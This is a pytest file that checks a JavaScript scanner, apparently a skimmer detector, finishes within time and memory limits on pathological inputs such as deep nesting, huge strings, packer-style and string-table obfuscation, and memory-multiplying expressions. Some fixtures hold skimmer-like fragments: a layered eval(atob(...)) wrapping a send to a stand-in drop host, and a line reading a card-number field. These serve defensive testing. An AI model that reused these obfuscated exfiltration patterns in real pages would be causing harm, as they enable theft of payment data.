"""Scripts that are made to take for ever, or all memory, end in time with what was read."""

from __future__ import annotations

import base64
import time
import tracemalloc

import pytest

from content.signs import read

SIZE = 16_000
LAYERS = 12


def nested(text: str, times: int) -> str:
    for _ in range(times):
        text = f"eval(atob('{base64.b64encode(text.encode()).decode()}'))"
    return text


TRAPS = {
    "spaces": " " * SIZE,
    "lines": "\n/*\n *" * (SIZE // 5),
    "round brackets": "(" * SIZE,
    "square brackets": "[" * SIZE,
    "braces": "{" * SIZE,
    "closing brackets": ")]}" * (SIZE // 3),
    "brackets both ways": "(" * (SIZE // 2) + "'a'" + ")" * (SIZE // 2),
    "lists in lists": "[" * (SIZE // 2) + "]" * (SIZE // 2),
    "indexes": "a" + "[0]" * (SIZE // 3),
    "backslashes": "\\" * SIZE,
    "a string of backslashes": "'" + "\\" * SIZE,
    "quotes": "\"'`" * (SIZE // 3),
    "escaped quotes": '"\\"' * (SIZE // 3),
    "slashes": "/" * SIZE,
    "half regular expressions": "=/[" * (SIZE // 3),
    "templates": "`${" * (SIZE // 3),
    "sums": "'a'+" * (SIZE // 4),
    "sums in brackets": "('a'+" * (SIZE // 5),
    "sums of a name": "a+" * (SIZE // 2),
    "minus signs": "-" * SIZE + "1",
    "a doubling name": "var a='"
    + "x" * 500
    + "';"
    + "".join(f"var a{n + 1}=a{n or ''}+a{n or ''};" for n in range(40)),
    "a join that multiplies": f"'{'a' * 9_000}'.split('').join('{'b' * 9_000}')",
    "a replacement that multiplies": f"'{'a' * 9_000}'.replaceAll('a', '{'b' * 9_000}')",
    "a repetition": "'a'.repeat(1e9); 'a'.repeat(2147483647)",
    "names that stand for each other": "".join(f"var n{k}=n{k + 1};" for k in range(SIZE // 20)),
    "functions that call each other": "".join(
        f"function w{k}(a,b){{return w{k + 1}(a,b)}}" for k in range(900)
    ),
    "a table": "var t=['a','b','c'];function f(i){i=i-1;return t[i]}" + "f(1);" * (SIZE // 5),
    "a table that turns": "var t=["
    + "'a'," * 1_000
    + "'b'];(function(x,n){while(!![]){try{var s="
    + "+".join(["parseInt(f(1))/1"] * 10)
    + ";if(s===n)break;else x.push(x.shift());}catch(e){x.push(x.shift());}}}"
    "(t,0x1234));function f(i){i=i-1;return t[i]}",
    "long numbers": "9" * SIZE + ";0x" + "f" * SIZE + ";1e9999;" + "1" * SIZE + ".5",
    "shifts": "var n=" + "1<<31<<" * (SIZE // 6) + "1",
    "products": "var n=" + "999999999999*" * (SIZE // 13) + "9",
    "character codes": "String.fromCharCode(" + "104," * (SIZE // 4) + "1)",
    "hex": "'" + "ab" * (SIZE // 2) + "'",
    "base64": "'" + "QUJD" * (SIZE // 4) + "'",
    "numbers with marks": "'" + "104," * (SIZE // 4) + "'",
    "percent signs": "'" + "%41" * (SIZE // 3) + "'",
    "many strings": "".join(f"s('{n:08x}zz','k{n}');" for n in range(SIZE // 20)),
    "a packer with one word": (
        f"eval(function(p,a,c,k,e,d){{}}('{'0 ' * 9_000}',62,1,'{'w' * 9_000}'.split('|'),0,{{}}))"
    ),
    "layers": nested("send('https://drop-example.net/x')", LAYERS),
    "card words": "'cc_number'," * (SIZE // 12),
    "a word that nearly is one": "'" + "expir" * (SIZE // 5) + "'",
    "tags": "<script" * (SIZE // 7),
    "handlers": "<a onclick='" * (SIZE // 12),
    "scripts in a page": "<script>a=1" * (SIZE // 11),
    "an object": "{a:'b'," * (SIZE // 7),
    "nothing printable": "\0\ufeff\u2028\u202e" * (SIZE // 4),
    "comments that do not end": "/*" * (SIZE // 2),
    "arrows": "a=>" * (SIZE // 3),
    "parameters": "function f(" + "a," * (SIZE // 2),
    "hosts": "'//a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p'+" * (SIZE // 40),
    "dots": "'//" + "a." * (SIZE // 2) + "'",
}


@pytest.mark.sampled(6)
@pytest.mark.parametrize("name", TRAPS)
def test_a_trap_does_not_catch_the_reader(name):
    start = time.process_time()
    reading = read(TRAPS[name], 60)
    assert time.process_time() - start < 6
    assert isinstance(reading.complete, bool)


@pytest.mark.slow
@pytest.mark.parametrize("name", TRAPS)
def test_memory_is_bounded(name):
    tracemalloc.start()
    try:
        read(TRAPS[name][: SIZE // 6], 60)
        assert tracemalloc.get_traced_memory()[1] < 200_000_000
    finally:
        tracemalloc.stop()


def test_the_clock_ends_it():
    text = "var a = document.getElementById('cc_number').value; f('aGVsbG8gd29ybGQ=', [1, 2, 3]);\n" * 40_000
    start = time.monotonic()
    reading = read(text, 0.3)
    assert time.monotonic() - start < 5
    assert not reading.complete


@pytest.mark.slow
def test_twice_the_text_takes_about_twice_the_time():
    """Not four times, for what is read again and again in a hostile way."""

    def cost(text: str) -> float:
        start = time.process_time()
        read(text, 60)
        return time.process_time() - start

    for piece in ('"\\\\""', "=/[", "('a'+", "'//a.", "`${", "[", "a[0]", "\\\\"):
        once = piece * 1_500
        assert cost(once + once + once + once) < 9 * cost(once) + 0.5, piece
